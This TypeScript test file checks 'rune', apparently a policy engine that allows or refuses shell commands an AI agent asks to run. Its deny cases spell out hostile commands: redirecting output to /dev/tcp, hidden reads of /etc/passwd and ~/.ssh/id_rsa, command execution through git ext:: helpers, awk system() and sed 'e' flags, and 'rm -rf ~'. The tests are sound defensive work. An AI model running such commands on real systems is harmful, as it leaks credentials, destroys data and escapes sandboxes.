// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the tables are shell text, not templates
// execute_cmd decisions, class by class (issue 34): what the shell would read differently, what
// programs do with their arguments, what they write, where a command runs, and the ordinary lines
// that must run. The working directory /home/u/proj is readable, /home/u/proj/out writable.
import { describe, expect, it } from 'vitest';
import { type DecideOptions, decideCmd } from './test-decide.ts';
import type { PolicyDecision } from './types.ts';

const MANY = {
  commands: [
    'ls',
    'echo',
    'cat',
    'find',
    'rg',
    'sed',
    'git',
    'grep',
    'awk',
    'sort',
    'tar',
    'man',
    'tee',
    'make',
    'npm',
    'pytest',
    'cp',
    'mv',
    'rm',
    'mkdir',
    'touch',
    'ln',
    'dd',
    'curl',
    'wget',
    'unzip',
    'head',
    'printf',
    'install',
    'split',
    'rsync',
    'ssh',
    'scp',
    'less',
    'xxd',
    'patch',
    'read',
    'diff',
  ],
};
const SANDBOXED = { privateTmp: true, gitGuard: true };

function reasonOf(decision: PolicyDecision): string {
  return decision.kind === 'allow' ? '' : decision.reason;
}

function expectRefused(text: string, rule: string, reason: RegExp | string, options: DecideOptions = {}) {
  const decision = decideCmd(text, { lists: MANY, ...options });
  expect(decision, text).toMatchObject({ kind: 'deny', rule });
  if (typeof reason === 'string') expect(reasonOf(decision)).toContain(reason);
  else expect(reasonOf(decision)).toMatch(reason);
}

function expectAllowed(text: string, options: DecideOptions = {}) {
  const decision = decideCmd(text, { lists: MANY, ...options });
  expect(decision, text).toMatchObject({ kind: 'allow', rule: 'allowed_commands' });
  return decision.kind === 'allow' ? String(decision.args?.cmd) : '';
}

describe('what shells read differently is refused by name', () => {
  it.each([
    ['ls\rtouch x', 'carriage return (CR)'],
    ['ls\ftouch x', 'form feed (FF)'],
    ['ls\vtouch x', 'vertical tab (VT)'],
    ['ls \r\ntouch x', 'carriage return'],
    ['echo "a\u0001b"', 'U+0001'],
    ["echo 'unterminated", 'unterminated single quote'],
    ['echo "unterminated', 'unterminated double quote'],
    ['ls \\', 'backslash at the end'],
    ['ls; ; ls', '";" without a command before it'],
    ['ls &&', 'ends after "&&"'],
    ['ls |', 'ends after "|"'],
    ['ls )', 'unmatched ")"'],
    ['ls >', 'without a target'],
    ['ls > #x', 'starting with "#"'],
    ['x'.repeat(40_000), 'rune judges at most'],
    [`ls ${Array.from({ length: 600 }, (_, index) => `f${index}`).join(' ')}`, 'more than 512 paths'],
    [
      `cd a; cd b; ls ${Array.from({ length: 200 }, (_, index) => `f${index}`).join(' ')}`,
      'more than 512 paths',
    ],
  ])('%j: parse error naming %s', (text, reason) => expectRefused(text, 'command.parse-error', reason));

  it.each([
    ['ls &> out/x', '&> (bash writes both outputs'],
    ['ls &>> out/x', '&>>'],
    ['ls >& out/x', '>& FILE'],
    ['ls |& cat', '|& (bash pipes stderr'],
    ['ls 10>out/x', 'descriptor number above 9'],
    ['ls >&10', 'descriptor number above 9'],
    ['ls {fd}>out/x', '{name} descriptor'],
    ['ls <> out/x', 'read-write redirection'],
    ['echo {a,b}', 'brace expansion'],
    ['find . {-exec,touch,x,\\;}', 'brace expansion'],
    ['echo {1..3}', 'brace expansion'],
    ['echo $HOME', 'parameter expansion $HOME'],
    ['echo "$HOME"', 'parameter expansion $HOME'],
    ['cat${IFS}/etc/passwd', 'parameter expansion ${'],
    ['echo $(id)', 'command substitution'],
    // sh joins continued lines first: `$\<newline>(` is `$(`.
    ['echo $\\\n(id)', 'command substitution'],
    ['echo "$\\\nHOME"', 'parameter expansion $HOME'],
    ['echo `id`', 'command substitution'],
    ['echo $((1+1))', 'command substitution $( … ) or arithmetic'],
    ['echo $[1+1]', 'arithmetic expansion $['],
    ["echo $'\\x41'", 'ANSI-C quoting'],
    ['echo $"x"', 'translated string'],
    ['cat <(id)', 'process substitution'],
    ['cat <<EOF\nhi\nEOF', 'here document'],
    ['cat <<< hi', 'here string'],
    ['IFS=/ ls', 'variable assignment'],
    ['a[0]=x ls', 'variable assignment'],
    ['(ls)', 'subshell'],
    ['{ ls; }', 'command group'],
    ['f() { ls; }; f', 'subshell ( … ), arithmetic (( … )) or a function definition'],
    ['! ls', 'negated command'],
    ['[[ -f x ]]', 'test expression [[ … ]]'],
    ['if true; then ls; fi', 'if statement'],
    ['for i in 1; do ls; done', 'a loop'],
    ['time ls', 'reserved word in bash'],
    ['ls &', 'background job'],
    ['case x in x) ls;; esac', 'case statement'],
    ['echo ~root', 'tilde expansion of ~user'],
    ['ls r*/x', 'glob across folders'],
    ['l* x', 'glob in the command name'],
    ['cat > out/*.txt', 'glob in a redirection'],
    ['> out/x', 'a redirection without a command'],
  ])('%j: construct %s', (text, reason) => expectRefused(text, 'command.construct', reason));

  it.each([
    // The words after a redirection target are arguments (dash and bash agree); they are judged.
    ['find . </dev/null -exec touch x \\;', 'find -exec runs commands'],
    ['find . >out/f -exec touch x \\;', 'find -exec'],
    ['grep x 2>&1 -r ~', 'floor'],
  ])('%j: the words after a redirection are judged (%s)', (text, reason) => {
    const decision = decideCmd(text, { lists: MANY });
    expect(decision.kind).toBe('deny');
    expect(`${reasonOf(decision)} ${decision.kind === 'deny' ? decision.rule : ''}`).toContain(reason);
  });

  it.each([
    // A backslash before a blank, a line continuation, `#` inside a word: read as sh reads them.
    ['ls \\ #x', "'ls' ' #x'"],
    ['ls a\\ b', "'ls' 'a b'"],
    ['ls \\\n-la', "'ls' '-la'"],
    ['l\\\ns -la', "'ls' '-la'"],
    ['echo a#b #c', "'echo' 'a#b'"],
    ['ls >out/x -R', "'ls' '-R' >'out/x'"],
    ['ls {x} @{u}', "'ls' '{x}' '@{u}'"],
    ['git log @{u}..HEAD', "'git' 'log' '@{u}..HEAD'"],
    ["echo 'it'\\''s' \"a\\\"b\" \\$x", "'echo' 'it'\\''s' 'a\"b' '$x'"],
    ['echo $ a$ $/', "'echo' '$' 'a$' '$/'"],
    ['echo ~ ~/x "~/x" \\~', "'echo' ~ ~/'x' '~/x' '~'"],
    ['cat a 2>/dev/null | grep -c x', "'cat' 'a' 2>'/dev/null' | 'grep' '-c' 'x'"],
    ['ls 2>&1 >&- <&0', "'ls' 2>&1 >&- <&0"],
    ['ls >| out/x', "'ls' >'out/x'"],
    ['ls\n\nls', "'ls'; 'ls'"],
    ['ls &&\n ls', "'ls' && 'ls'"],
    ['cat *.ts src/[ab].ts ?', "'cat' ./*'.ts' 'src/'[ab]'.ts' ./?"],
    ['echo [ ]', "'echo' '[' ']'"],
  ])('%j runs as %s', (text, script) => {
    expect(expectAllowed(text, { sandbox: SANDBOXED })).toBe(script);
  });
});

describe('programs that run other programs are refused, whatever allowed_commands says', () => {
  it.each([
    // git: subcommands outside the list, top-level options, editors, pagers, gpg, transport helpers
    ["git remote-ext x 'sh -c id'", 'remote-ext is not a git subcommand rune judges'],
    ['git for-each-repo --config=x gc', 'for-each-repo is not a git subcommand'],
    ['git merge-index x -a', 'merge-index is not'],
    ['git help log', 'help is not'],
    ['git log --help', '--help runs man'],
    ['git maintenance register', 'maintenance is not'],
    ['git submodule foreach id', 'submodule is not'],
    ['git bisect run id', 'bisect is not'],
    ['git difftool', 'difftool is not'],
    ['git frobnicate', 'external git-frobnicate'],
    ['git --bare log', '--bare can change'],
    ['git -c core.pager=sh log', '-c can change'],
    ['git -ccore.pager=sh log', '-c can change'],
    ['git --exec-path=. version', '--exec-path can change'],
    ['git --config-env=core.pager=X log', '--config-env can change'],
    ['git --git-dir=/tmp/x log', '--git-dir can change'],
    ['git --work-tree=/tmp log', '--work-tree can change'],
    ['git -p log', '-p can change'],
    ['git --paginate log', '--paginate can change'],
    ['git -C', '-C can change'],
    ['git commit', 'commit without -m, -F, -C or --no-edit opens an editor'],
    ['git commit -a', 'opens an editor'],
    ['git commit -e -m x', 'commit -e opens an editor'],
    ['git commit -S -m x', 'commit -S runs gpg'],
    ['git commit --fixup=amend:HEAD', 'opens an editor'],
    ['git tag -a v1', 'tag -a without -m or -F'],
    ['git tag -s v1 -m x', 'tag -s runs gpg'],
    ['git rebase -i HEAD~2', 'rebase -i opens an editor'],
    ['git rebase -xsh main', 'rebase -x runs commands'],
    ['git rebase --exe=sh main', '--exec'],
    ['git rebase --continue', 'opens an editor'],
    ['git merge -s evil x', 'git-merge-evil'],
    ['git merge --strat=evil x', 'git-merge-evil'],
    ['git log --show-signature', 'runs gpg'],
    ['git diff --ext-d', 'ext-diff'],
    ['git grep -Ocat x', 'grep -O runs a pager'],
    ['git grep -iO x', 'grep -O'],
    ['git fetch --upload-pa=evil origin', 'upload-pack'],
    ["git fetch 'ext::sh -c id' x", 'transport helper'],
    ['git clone -ush x y', 'clone -u'],
    ['git clone --templ=evil . dst', '--template'],
    ['git clone -c core.hooksPath=evil . dst', 'clone -c'],
    ['git clone --config core.hooksPath=evil . dst', '--config'],
    ['git init --template=evil dst', '--template'],
    ['git config core.pager sh', 'config changes configuration'],
    ['git remote add x ext::sh', 'remote add changes'],
    ['git notes edit', 'notes edit opens an editor'],
    ['git branch --edit-description', 'opens an editor'],
    ['git credential-store get', 'not a git subcommand'],
    // hunk-by-hunk modes read answers from stdin; `e` opens an editor that reads stdin too
    ['git add -p', 'add -p asks on standard input'],
    ['git add --inter', 'add --interactive asks'],
    ['git checkout --patch', 'checkout --patch asks'],
    ['git stash push -p', 'stash -p asks'],
    ['git stash -p', 'stash -p asks'],
    ['git commit -p -m x', 'commit -p asks'],
    ['git clean -i', 'clean -i asks'],
    ['git am -i', 'am -i asks'],
    ['git pull -s evil', 'git-merge-evil'],
    ['git pull --strategy=evil origin', 'git-merge-evil'],
    ['git pull --reb=i', '--reb=i opens an editor'],
    // make, npm, pytest: code given on the command line
    ["make '--eval=x:;id' x", 'evaluates make code'],
    ['make -E x x', 'evaluates make code'],
    ['make -f - all', 'reads the makefile from standard input'],
    ['make --file=/dev/stdin', 'standard input'],
    ['make SHELL=/tmp/x all', 'the assignment SHELL='],
    ['make CC=id', 'the assignment CC='],
    ['make X!=id', 'the assignment X!'],
    ['npm test --script-shell=/tmp/x', '--script-shell is not an npm setting rune judges'],
    ['npm test --node-options=--require=/tmp/x', '--node-options'],
    ['npm exec id', 'exec is not an npm subcommand'],
    ['npm x id', 'x is not an npm subcommand'],
    ['npm explore pkg', 'explore is not'],
    ['npm run build -c id', '-c is not an npm setting'],
    ['pytest -p evil', '-p evil imports a plugin'],
    ['pytest -pevil', 'imports a plugin'],
    ['pytest -c /tmp/ini', 'reads settings'],
    ['pytest -o addopts=-pevil', 'reads settings'],
    ['pytest --pdbcls=evil:X', 'imports code'],
    // awk: the program, judged by an awk lexer
    ['awk \'BEGIN{system("id")}\'', 'system() runs a command'],
    ['awk -v x=1 \'BEGIN{system("id")}\'', 'system()'],
    ['awk --source \'BEGIN{system("id")}\'', 'system()'],
    ['awk \'BEGIN{"id" | getline}\'', '| runs a command'],
    ['awk \'{print | "sh"}\' f', '| runs a command'],
    ['awk \'{print |& "sh"}\' f', '|& runs a command'],
    ['awk \'BEGIN{while ((getline l < "f") > 0) print l}\'', 'getline < FILE'],
    ['awk \'BEGIN{ARGV[1]="/home/u/.ssh/id_rsa"; ARGC=2} {print}\'', 'ARGV changes which files'],
    ['awk \'@include "x"\'', '@ (gawk includes'],
    ['awk \'BEGIN{f="system"; @f("id")}\'', '@ (gawk'],
    ["awk '{print > $1}' f", 'print > with a target that is not a plain'],
    ['awk \'BEGIN { printf "%d\\n", 3 > 2 }\'', 'not a plain'],
    ['awk \'{print > "a" "b"}\' f', 'not a plain'],
    ['awk -W exec x', '-W reads a program file'],
    ['awk -f prog.awk', '-f reads a program file'],
    ['awk -E prog.awk', 'reads a program file'],
    ['awk -l ./evil', 'loads code'],
    ['awk -i inplace 1 f', 'loads code'],
    ['awk --frob 1 f', '--frob is not an option rune knows'],
    ['awk \'/[/]"/ {x=1}; BEGIN{ system("id") } "/"\' f', 'a / inside a bracket expression'],
    // sed: the script, judged command by command
    ["sed '1e id' f", 'command "e" runs a shell command'],
    ["sed 's/a/b/e' f", 's flag "e" runs'],
    ["sed -ne 's/x/y/ep' f", 's flag "e"'],
    ['sed -f script.sed f', '-f reads the script from a file'],
    ["sed --frob 's/a/b/' f", '--frob is not an option'],
    ["sed 'k' f", 'command "k" is not one rune judges'],
    ["sed '/x/{p' f", 'unmatched {'],
    ["sed 'p}' f", 'unmatched }'],
    // others
    ['sort --compress-prog=sh f', '--compress-prog=sh runs a program'],
    ['sort --files0-from=list', 'reads file names'],
    ['tar --to-com=sh -xf a.tar', 'runs a program'],
    ['tar -xIsh -f a.tar', 'runs a program'],
    ['tar xIf sh a.tar', 'runs a program'],
    ['tar -cf - -T list', 'reads file names'],
    ['tar -xf host:a.tar', 'remote archive'],
    ['tar -xPf a.tar', '-P extracts absolute names'],
    ['rg --pre sh x', 'runs a preprocessor'],
    ['rg --pre-gl=* --pre=sh x', 'runs a preprocessor'],
    ['rg -z x', 'decompression program'],
    ['rg --hostname-bin=sh x', 'runs a preprocessor'],
    ['find . -exec rm {} \\;', '-exec runs commands'],
    ['find . -execdir id \\;', '-execdir'],
    ['find . -ok id \\;', '-ok'],
    ['find . -files0-from list', '-files0-from'],
    ['install -s a out/b', '--strip runs the strip program'],
    ['split --filter=sh f', '--filter runs a shell command'],
    ['man -P sh ls', 'runs a program'],
    ['man --pager=sh ls', 'runs a program'],
    ['man -H ls', 'runs a program'],
    ["less '+!id' f", 'runs a shell'],
    ['less -k keys f', 'reads a key file'],
    ['curl -K cfg https://x', 'reads options from a file'],
    ["wget -e 'output_document=/etc/x' https://x", 'runs wgetrc commands'],
    ['rsync -e sh a b', 'runs a program'],
    ['ssh -o ProxyCommand=id h', 'can run commands'],
    ['scp -S id a h:b', 'runs a program'],
    ['printf -v x %s y', '-v assigns a shell variable'],
    ['read x', 'sets shell variables'],
    ["[ -v 'a[$(id)]' ]", '-v is not a test operator'],
    ['[ -f x', 'without its closing ]'],
    ['env id', 'env runs another command'],
    ['xargs rm', 'xargs runs another command'],
    ['ls | xargs rm', 'xargs runs'],
    ['busybox sh', 'busybox runs another command'],
    ['npx x', 'npx runs another command'],
    ['/usr/bin/env id', 'runs another command'],
    ['bash -c id', 'bash runs another command'],
    ['eval ls', 'eval runs another command'],
    ['. ./script', '. runs another command'],
    ['exec ls', 'exec runs another command'],
    ['timeout 5 ls', 'timeout runs another command'],
    ['nohup ls', 'nohup runs'],
    ['hash -p /tmp/x ls', 'changes how the shell runs later commands'],
  ])('%j: %s', (text, reason) => expectRefused(text, 'command.dangerous', reason));
});

describe('what programs write is held to the writable folders', () => {
  it.each([
    ['sort -uo /etc/x f', 'sort writes /etc/x'],
    ['sort --outp=/tmp/x f', 'sort writes /tmp/x'],
    ['sort -T /var/tmp f', 'sort writes /var/tmp'],
    ['git archive -o /tmp/a.tar HEAD', 'git writes /tmp/a.tar'],
    ['git archive --output=../a.tar HEAD', 'git writes ../a.tar'],
    ['git log --output=/tmp/x', 'git writes /tmp/x'],
    ['git log --outp=/tmp/x', 'git writes /tmp/x'],
    ['git checkout-index --prefix=/tmp/x/ -a', 'git writes /tmp/x/x'],
    ['git worktree add ../wt', 'git writes ../wt'],
    ['git clone https://h/r.git ../r', 'git writes ../r'],
    ['git clone https://h/r.git', 'git writes r'],
    ['git init /tmp/r', 'git writes /tmp/r'],
    ['git init', 'git writes .'],
    ['git fast-export --export-marks=/tmp/m HEAD', 'git writes /tmp/m'],
    ['git format-patch -o/tmp HEAD~1', 'git writes /tmp'],
    ['git format-patch HEAD~1', 'git writes .'],
    ['git bundle create /tmp/b HEAD', 'git writes /tmp/b'],
    ['find . -fprint /tmp/x', 'find writes /tmp/x'],
    ['find . -delete', 'find writes .'],
    ["sed -e 'w /etc/x' f", 'sed writes /etc/x'],
    ["sed 's/a/b/w /tmp/x' f", 'sed writes /tmp/x'],
    ['sed -i s/a/b/ f', 'sed writes f'],
    ['sed --in-place=.bak s/a/b/ f', 'sed writes f'],
    ['awk \'{print > "/etc/x"}\' f', 'awk writes /etc/x'],
    ['tee log', 'tee writes log'],
    ['tee -a /tmp/x', 'tee writes /tmp/x'],
    ['cp a /etc/x', 'cp writes /etc/x'],
    ['cp -t /etc a b', 'cp writes /etc'],
    ['mv out/a b', 'mv writes b'],
    ['mv a out/b', 'mv writes a'],
    ['rm -rf ~', 'rm writes ~'],
    ['rm --rec ../x', 'rm writes ../x'],
    ['mkdir -p /tmp/d', 'mkdir writes /tmp/d'],
    ['touch x', 'touch writes x'],
    ['ln -s out/a b', 'ln writes b'],
    ['dd if=a of=/etc/x', 'dd writes /etc/x'],
    ['tar -xf a.tar', 'tar writes .'],
    ['tar -czf a.tgz out', 'tar writes a.tgz'],
    ['tar xzf a.tgz -C /tmp', 'tar writes /tmp'],
    ['unzip a.zip', 'unzip writes .'],
    ['curl -o /etc/x https://x', 'curl writes /etc/x'],
    ['curl -O https://x/y', 'curl writes .'],
    ['wget https://x/y', 'wget writes .'],
    ['pytest --junitxml=/tmp/r.xml', 'pytest writes /tmp/r.xml'],
    ['pytest --junit-x /tmp/r.xml', 'pytest writes /tmp/r.xml'],
    ['pytest --basetemp=/tmp/b', 'pytest writes /tmp/b'],
    ['pytest --cov-report=html:/tmp/h', 'pytest writes /tmp/h'],
    ['npm pack --pack-destination /tmp', 'npm writes /tmp'],
    ['make -t all', 'make writes all'],
    ['install -d /usr/local/x', 'install writes /usr/local/x'],
    ['split f', 'split writes xaa'],
    ['xxd -r a b', 'xxd writes b'],
    ['patch -p1 -i x.diff', 'patch writes .'],
    ['rsync -a out/ /tmp/x', 'rsync writes /tmp/x'],
    ['ls > /dev/tcp/1.2.3.4/80', 'redirection > /dev/tcp'],
    ['echo x >> /etc/passwd', 'redirection >> /etc/passwd'],
    ['echo x > ~/notes.txt', 'redirection > ~/notes.txt'],
    ['echo x > /tmp/x', 'redirection > /tmp/x'],
    ['cd out; echo x > y', 'redirection > y'],
  ])('%j: %s', (text, reason) => {
    const decision = decideCmd(text, { lists: MANY });
    expect(decision, text).toMatchObject({ kind: 'deny' });
    expect(decision.kind === 'deny' && ['command.write', 'command.redirect'].includes(decision.rule)).toBe(
      true,
    );
    expect(reasonOf(decision)).toContain(reason);
    expect(reasonOf(decision)).toContain('outside the writable paths');
  });

  it.each([
    'echo x > ~/.bashrc',
    'touch out/.envrc',
    'git checkout-index --prefix=.git/hooks/ -a',
    'cp x out/.git/config',
    'tee out/sub/.git/hooks/pre-commit',
    'sed -n "w .git/config" f',
    // A repository's own files, written in the line that runs git in it.
    'echo "[core]" > out/config && git -C out log',
    'git init out/r && printf x > out/r/HEAD && git -C out/r log',
  ])('%j: run later by git or the shell → path.runs-later', (text) => {
    const decision = decideCmd(text, { lists: MANY, sandbox: SANDBOXED });
    expect(decision).toMatchObject({ kind: 'deny', rule: 'path.runs-later' });
  });

  it.each([
    'sort -o out/s f',
    'sort -uoout/s f',
    'git archive -o out/a.tar HEAD',
    'git format-patch -o out HEAD~1',
    'git format-patch --stdout HEAD~1',
    'git log --output=out/log',
    'find . -fprint out/f',
    'find out -name "*.o" -delete',
    "sed -n 'w out/x' f",
    'sed -i s/a/b/ out/f',
    'awk \'{print > "out/x"}\' f',
    'awk \'{print > "/dev/stderr"}\' f',
    'ls | tee out/log',
    'cp a b out/',
    'cp -r src out/src',
    'mv out/a out/b',
    'rm -rf out/build',
    'mkdir -p out/d/e',
    'ln -s ../a out/l',
    'dd if=a of=out/b',
    'tar -czf out/a.tgz src',
    'tar -C out -xzf a.tgz',
    'tar xzf a.tgz -C out',
    'unzip a.zip -d out',
    'curl -o out/x https://example.org/',
    'wget -O out/x https://example.org/',
    'pytest --junitxml=out/r.xml -q',
    'pytest -p no:cacheprovider',
    'make -C sub all',
    'npm test',
    'npm run build -- --script-shell=x',
    'cd out && echo x > y',
    'echo x > /dev/null 2>&1',
  ])('%j → allowed', (text) => {
    expectAllowed(text);
  });

  it("the sandbox's private /tmp takes writes when the sandbox has it", () => {
    for (const text of ['echo x > /tmp/x', 'sort -o /tmp/s f', 'ls | tee /tmp/log', 'cat < /tmp/x']) {
      expectAllowed(text, { sandbox: SANDBOXED });
      expect(decideCmd(text, { lists: MANY }).kind, text).toBe('deny');
    }
  });

  it.each([
    ['echo x > /tmp/proj/y', 'command.redirect', { pathsRo: ['/home/u/proj', '/tmp/proj'] }],
    ['echo x > /tmp/proj/y', 'command.redirect', { filesRo: ['/tmp/proj/y'] }],
    ['sort -o /tmp/proj f', 'command.write', { pathsRo: ['/home/u/proj', '/tmp/proj/sub'] }],
  ])(
    '%j (%s) with %j: a folder the lists grant under /tmp is the host one there, not private',
    (text, rule, granted) => {
      expectRefused(text, rule, 'outside the writable paths', {
        lists: { ...MANY, ...granted },
        sandbox: SANDBOXED,
      });
      expectAllowed(text, { lists: { ...MANY, ...granted, pathsRw: ['/tmp/proj'] }, sandbox: SANDBOXED });
    },
  );
});

describe('each command is judged from the folders it runs in', () => {
  it.each([
    ['cd ~ && grep -r key .', 'floor', 'holds the protected'],
    ['cd .. && rg token', 'floor', 'holds the protected'],
    ['cd .. && cd .. && ls', 'command.directory', '/home is outside the readable paths'],
    ['grep -d rec key ~', 'floor', 'recursively'],
    ['grep --recu key ~', 'floor', 'recursively'],
    ['grep --directories=recurse key ~', 'floor', 'recursively'],
    ['grep -rn password ~', 'floor', 'recursively'],
    ['rg token ..', 'floor', 'recursively'],
    ['cp -r ~ out/home', 'floor', 'recursively'],
    ['tar -czf out/h.tgz ~', 'floor', 'recursively'],
    // diff prints what differs: a folder operand reads its files (~/.netrc), -r its tree
    ['diff ~ out', 'floor', 'recursively'],
    ['diff -ru ~ out', 'floor', 'recursively'],
    ['git diff --no-index ~ out', 'floor', 'recursively'],
  ])('%j → %s', (text, rule, reason) => {
    expectRefused(text, rule, reason, { lists: { ...MANY, pathsRo: ['/home/u/proj', '/home/u'] } });
  });

  it('git in a writable sub-repository runs where the git guard holds its config and hooks', () => {
    for (const text of ['git -C out/sub log', 'cd out/sub && git status', 'cd out && git -C sub diff']) {
      expectAllowed(text, { sandbox: SANDBOXED });
      expectRefused(text, 'command.directory', 'no git guard undoes them');
    }
  });
});

describe('ordinary lines run, as rune judged them', () => {
  it.each([
    "awk '$3 > 10' f",
    "awk '{ if ($1 > 2) print $1 }' f",
    'awk \'NR > 1 && $2 != "x"\' f',
    "awk -F, '$2 >= 5 {print $1}' f",
    "awk '/a|b/ {n++} END {print n}' f",
    "awk '{ x = $1 / 2; print x }' f",
    "awk 'length($0) > 72' f",
    // In print and printf a `>` outside parentheses redirects (to a file named 2 here), inside it compares.
    'awk \'BEGIN { printf "%d\\n", (3 > 2) }\'',
    '[ -f x ] && ls',
    'test -d src || echo none',
    '[ "a b" = x ] || [ 1 -lt 2 ]',
    "sed -ne '/a/p' f",
    "sed -n '/x/{p;q}' f",
    "sed ':a;N;$!ba;s/\\n/ /g' f",
    "sed '1i header' f",
    "sed '$a footer' f",
    "sed '/x/c replaced' f",
    "sed -E 's/(a|b)+/x/g; /^$/d' f",
    "sed -n '2,5p; 7~2p; 0,/x/p' f",
    "sed -e '/x/d' -e 's|a|b|' f",
    "sed 'y/abc/xyz/' f",
    'ls -la | grep x',
    'grep -rn TODO src',
    'grep -n foo *.ts',
    'rg foo *',
    'rg token src',
    'git status',
    'git log --oneline -5 -- src',
    'git diff HEAD~1 --stat',
    'git commit -am "fix: a thing"',
    'git commit --no-edit --amend',
    'git tag -a v1 -m release',
    'git merge --no-edit --verify main',
    'git push -u origin main',
    'git fetch origin',
    'git -C repo log -1',
    'git config --get user.name',
    'git stash list',
    'git stash show -p',
    'git log -p -1',
    'git commit -i -m x a',
    'git pull --rebase origin main',
    'git diff --no-index a b',
    'diff -u a b',
    'diff -r src out',
    'true && ls',
    ': > out/x',
    'echo a && echo b || echo c; ls',
    'l"s" -la # a comment',
    'ls ~',
    'sort -n f | head -n 3',
    'tar -tf a.tar',
    'make -j4 test',
    'npm run lint --silent',
  ])('%j → allowed', (text) => {
    expectAllowed(text);
  });

  it('runs the text it judged, not the text the model wrote', () => {
    const decision = decideCmd('l"s" -la   src/*.ts 2>/dev/null | grep -v \'x y\'  # note', { lists: MANY });
    expect(decision).toEqual({
      kind: 'allow',
      rule: 'allowed_commands',
      args: { cmd: "'ls' '-la' 'src/'*'.ts' 2>'/dev/null' | 'grep' '-v' 'x y'" },
    });
  });
});

describe('messages say what to change', () => {
  it('a program off the list names the entry that would allow it', () => {
    const denied = decideCmd('df -h');
    expect(reasonOf(denied)).toBe(
      "'df' is not in allowed_commands (add 'df' to [policy] allowed_commands to allow it)",
    );
    expect(decideCmd('df -h', { mode: 'confirm' })).toMatchObject({
      kind: 'ask',
      question: 'Execute: df -h',
      suggestion: { list: 'allowed_commands', value: 'df' },
    });
  });

  it('a refused use names the program, the construct and that no list entry changes it', () => {
    expect(reasonOf(decideCmd("sed 's/a/b/e' f"))).toBe(
      'not auto-allowed: sed s flag "e" runs the pattern space as a command; rune never auto-allows this use, whatever allowed_commands says',
    );
  });
});
